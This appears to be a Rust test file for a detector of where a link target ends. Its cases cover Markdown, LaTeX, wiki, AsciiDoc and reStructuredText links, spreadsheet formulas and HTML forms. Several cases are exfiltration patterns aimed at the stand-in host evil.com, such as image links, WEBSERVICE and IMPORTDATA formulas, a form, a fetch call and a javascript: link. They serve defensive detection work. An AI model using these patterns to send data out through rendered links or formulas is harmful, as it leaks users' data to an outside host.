//! Where the target of a link ends, by the markup around it.

use super::super::super::unit::Landing;
use super::super::tests::inside;

/// Formats whose targets go on over blanks and ends of lines, and what stands beside an address that is fetched or sent.
#[test]
fn the_target_of_a_link_ends_where_its_markup_does() {
    for (name, text, expected) in [
        ("picture", "![](https://evil.com/?a b=¤)", true),
        ("picture, over the end of a line", "![a](https://evil.com/?q=\n¤)", true),
        ("behind the picture", "![](https://evil.com/?a b) ¤", false),
        ("title", "[x](https://evil.com/ \"¤\")", false),
        ("command", r"\href{https://evil.com/ ¤}{x}", true),
        ("command, over the end of a line", "\\href{https://evil.com/\n¤}{x}", true),
        ("another command", r"\url{https://evil.com/ ¤}", true),
        ("behind the command", r"\url{https://evil.com/ x} ¤", false),
        ("wiki", "[[https://evil.com/ ¤][x]]", true),
        ("behind the wiki", "[[https://evil.com/ x][x]] ¤", false),
        ("a bracket with a label", "[https://evil.com/ ¤]", false),
        ("macro of a picture", "image::https://evil.com/ ¤[]", true),
        ("macro in a line", "image:https://evil.com/a b ¤[x]", true),
        ("behind the macro", "image::https://evil.com/ x[] ¤", false),
        ("passed through", "link:++https://evil.com/ ¤++[x]", true),
        ("behind what is passed through", "link:++https://evil.com/ x++[x] ¤", false),
        ("passed through in brackets", "link:pass:[https://evil.com/ ¤][x]", true),
        ("directive", ".. image:: https://evil.com/\n   ¤", true),
        ("substitution", ".. |x| image:: https://evil.com/\n  ¤", true),
        ("target", ".. _x: https://evil.com/?\n   q=¤", true),
        ("target without a name", "__ https://evil.com/\n   ¤", true),
        ("behind the directive", ".. image:: https://evil.com/\n\n¤", false),
        ("the line behind the directive", ".. image:: https://evil.com/\n¤", false),
        ("angle brackets", "`x <https://evil.com/\n¤>`_", true),
        ("an open angle bracket", "a <https://evil.com/\n\n¤", false),
        ("formula", "=WEBSERVICE(\"https://evil.com/\"&\"¤\")", true),
        ("formula in a table", "| x | =IMAGE(\"https://evil.com/?q=\" & \"¤\") |", true),
        (
            "formula in a condition",
            "a,=IF(A1=\"some words that stand here for long\",IMPORTDATA(\"https://evil.com/\"&\"¤\"))",
            true,
        ),
        ("behind the formula", "| =HYPERLINK(\"https://evil.com\") | ¤ |", false),
        ("form", "<form action=\"https://evil.com/\"><input name=q value=\"¤\"></form>", true),
        ("behind the form", "<form action=\"https://evil.com/\"></form> ¤", false),
        ("form of the page itself", "<form action=\"send\"><input value=\"¤\"></form>", false),
        ("brackets of prose", "(see https://evil.com and call ¤)", false),
        ("braces of prose", "{https://evil.com ¤}", false),
        ("a list", "1. https://evil.com: ¤", false),
        ("code", "x = fetch(\"https://evil.com\", \"¤\")", false),
        ("another scheme", "[x](tel:¤)", true),
        ("another scheme, behind something", "[x](bitcoin:x?message=¤)", true),
        ("another scheme, angle brackets", "[x](<foo:¤>)", true),
        ("a script", "[x](javascript:x(¤))", true),
        ("behind another scheme", "[x](tel:1) ¤", false),
        ("a reference", "[x]: foo:¤", true),
        ("a time and who speaks", "[10:32]: Anna: ¤", false),
    ] {
        assert_eq!(inside(Landing::Text, text), expected, "{name}");
    }
}
